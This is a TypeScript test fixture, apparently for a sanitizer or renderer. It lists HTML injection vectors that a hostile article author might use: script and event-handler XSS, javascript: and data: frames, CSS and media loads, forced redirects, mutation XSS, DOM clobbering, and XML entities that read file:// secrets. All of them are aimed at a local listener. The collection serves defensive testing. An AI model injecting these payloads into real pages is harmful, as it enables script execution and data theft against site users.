/** What a hostile author puts into an article: every way we know in which HTML runs, loads, asks or reads. */

/** What the vectors are aimed at. */
export interface Aims {
  /** A listener's address, `http://127.0.0.1:PORT`. Each vector asks it for a path of its own. */
  readonly web: string;
  /** Addresses (`file://…`) of a secret text and a secret picture beyond the issue. */
  readonly secretText: string;
  readonly secretPicture: string;
}

/** Whether a plain browser follows it by itself: what needs a click, or what this browser has not built in, is there all the same. */
export interface Vector {
  readonly name: string;
  readonly html: string;
  readonly live: boolean;
}

const scripts = (web: string): readonly (readonly [string, string])[] => [
  ["script", `<script>fetch("${web}/script", { mode: "no-cors" })</script>`],
  ["script-src", `<script src="${web}/script-src"></script>`],
  ["module", `<script type="module">import("${web}/module")</script>`],
  ["socket", `<script>new WebSocket("${web.replace("http", "ws")}/socket")</script>`],
  ["events", `<script>new EventSource("${web}/events")</script>`],
  ["beacon", `<script>navigator.sendBeacon("${web}/beacon", "x")</script>`],
  ["svg-script", `<svg><script>new Image().src = "${web}/svg-script"</script></svg>`],
  ["onerror", `<video src="x:" onerror="new Image().src='${web}/onerror'"></video>`],
  ["onload", `<svg onload="new Image().src='${web}/onload'"></svg>`],
  ["ontoggle", `<details open ontoggle="new Image().src='${web}/ontoggle'">Details</details>`],
  ["onbegin", `<svg><animate onbegin="new Image().src='${web}/onbegin'" attributeName="x" dur="1s"/></svg>`],
  ["onfocus", `<input autofocus onfocus="new Image().src='${web}/onfocus'">`],
  ["foreign", `<svg><foreignObject><iframe src="${web}/foreign"></iframe></foreignObject></svg>`],
  ["javascript", `<iframe src="javascript:parent.fetch('${web}/javascript', { mode: 'no-cors' })"></iframe>`],
  ["srcdoc", `<iframe srcdoc="<script>new Image().src='${web}/srcdoc'</script>"></iframe>`],
  ["data", `<iframe src="data:text/html,<script>new Image().src='${web}/data'</script>"></iframe>`],
];

const frames = ({ web, secretText, secretPicture }: Aims): readonly (readonly [string, string])[] => [
  ["frame", `<iframe src="${web}/frame"></iframe>`],
  ["object", `<object data="${web}/object" type="text/html"></object>`],
  ["embed", `<embed src="${web}/embed" type="text/html">`],
  ["secret-frame", `<iframe src="${secretText}" width="600" height="80"></iframe>`],
  ["secret-object", `<object data="${secretText}" type="text/plain" width="600" height="80"></object>`],
  ["secret-background", `<div style="width:200px;height:60px;background:url(${secretPicture})">Ground</div>`],
  ["secret-svg", `<svg width="200" height="60"><image href="${secretPicture}" width="200" height="60"/></svg>`],
];

const sheets = (web: string): readonly (readonly [string, string])[] => [
  ["stylesheet", `<link rel="stylesheet" href="${web}/stylesheet">`],
  ["import", `<style>@import url("${web}/import");</style>`],
  [
    "font",
    `<style>@font-face{font-family:far;src:url("${web}/font")}</style><p style="font-family:far">Far letters.</p>`,
  ],
  ["background", `<p style="background:url(${web}/background)">A ground of its own.</p>`],
  ["list-style", `<ul style="list-style-image:url(${web}/list-style)"><li>A point.</li></ul>`],
  ["content", `<style>.far::before{content:url("${web}/content")}</style><p class="far">Before it.</p>`],
  ["image-set", `<p style='background:image-set("${web}/image-set" 1x)'>A set.</p>`],
  ["mask", `<p style="-webkit-mask-image:url(${web}/mask)">Masked.</p>`],
  ["svg-image", `<svg><image href="${web}/svg-image" width="9" height="9"/></svg>`],
  ["xlink", `<svg><image xlink:href="${web}/xlink" width="9" height="9"/></svg>`],
  [
    "feimage",
    `<svg width="9" height="9"><filter id="f"><feImage href="${web}/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ],
  ["attribute", `<table background="${web}/attribute"><tr><td>Cell</td></tr></table>`],
  ["preload", `<link rel="preload" as="style" href="${web}/preload">`],
  ["prefetch", `<link rel="prefetch" href="${web}/prefetch">`],
  ["poster", `<video poster="${web}/poster"></video>`],
  ["video", `<video src="${web}/video" preload="auto"></video>`],
  ["audio", `<audio src="${web}/audio" preload="auto"></audio>`],
  ["source", `<video preload="auto"><source src="${web}/source" type="video/mp4"></video>`],
  ["input", `<input type="image" src="${web}/input">`],
];

/** A page can be led away but once: these come alone, each in a document of its own. */
const departures = (web: string): readonly (readonly [string, string])[] => [
  ["refresh", `<meta http-equiv="refresh" content="0;url=${web}/refresh">`],
  ["location", `<script>location = "${web}/location"</script>`],
  [
    "form",
    `<form action="${web}/form"><button formaction="${web}/formaction">Go</button></form><script>document.forms[0].submit()</script>`,
  ],
  ["base", `<base href="${web}/base/"><link rel="stylesheet" href="far.css">`],
];

/** Not followed unless somebody clicks, or by no browser of ours; harmless here only if they do not stay in what is printed. */
const sleeping = ({ web, secretText }: Aims): readonly (readonly [string, string])[] => [
  ["dns", `<link rel="dns-prefetch" href="//planted-dns.invalid"><link rel="preconnect" href="${web}/dns">`],
  ["prerender", `<link rel="prerender" href="${web}/prerender"><link rel="manifest" href="${web}/prerender">`],
  ["speculation", `<script type="speculationrules">{"prerender":[{"urls":["${web}/speculation"]}]}</script>`],
  ["applet", `<applet code="${web}/applet"></applet><frameset><frame src="${web}/applet"></frameset>`],
  [
    "link",
    `<a href="javascript:fetch('${web}/link')">A link that runs</a>, <a href="${secretText}">one to a file</a> and <a href="https://example.org/" ping="${web}/ping">one that tells</a>.`,
  ],
  [
    "mhtml",
    `<a href="mhtml:${web}/mhtml!x">An archive</a>, <a href="data:text/html,&lt;script&gt;1&lt;/script&gt;">data</a>, <a href="vbscript:1">basic</a>, <a href=" java\tscript:fetch('${web}/mhtml')">a tab</a>.`,
  ],
  ["click", `<p onclick="fetch('${web}/click')" onmouseover="fetch('${web}/click')">A paragraph that listens.</p>`],
  ["clobber", `<form id="body"><input name="getElementById"></form><a id="pressday" name="pressday">Names</a>`],
  [
    "entities",
    `<?xml-stylesheet href="${web}/entities"?><!DOCTYPE x [<!ENTITY s SYSTEM "${secretText}">]><p>&s; entity</p>`,
  ],
  [
    "comment",
    `<!--[if IE]><script src="${web}/comment"></script><![endif]--><noscript><style>@import "${web}/comment"</style></noscript>`,
  ],
  [
    "mutation",
    `<math><mtext><table><mglyph><style><!--</style><iframe src="${web}/mutation"></iframe>--></style></table></mtext></math>`,
  ],
  ["template", `<template><iframe src="${web}/template"></iframe></template>`],
  [
    "expressions",
    `<p>{{{this}}} {{constructor}} {{#each .}}{{.}}{{/each}} {{> words}} \${process.env.HOME} &#123;&#123;layout&#125;&#125;</p>`,
  ],
];

const asVectors = (live: boolean, pairs: readonly (readonly [string, string])[]): readonly Vector[] =>
  pairs.map(([name, html]) => ({ name, html, live }));

/** Those that ask by themselves as soon as a page is open. */
export const livingVectors = (aims: Aims): readonly Vector[] =>
  asVectors(true, [...scripts(aims.web), ...frames(aims), ...sheets(aims.web), ...departures(aims.web)]);

export const allVectors = (aims: Aims): readonly Vector[] => [
  ...livingVectors(aims),
  ...asVectors(false, sleeping(aims)),
];
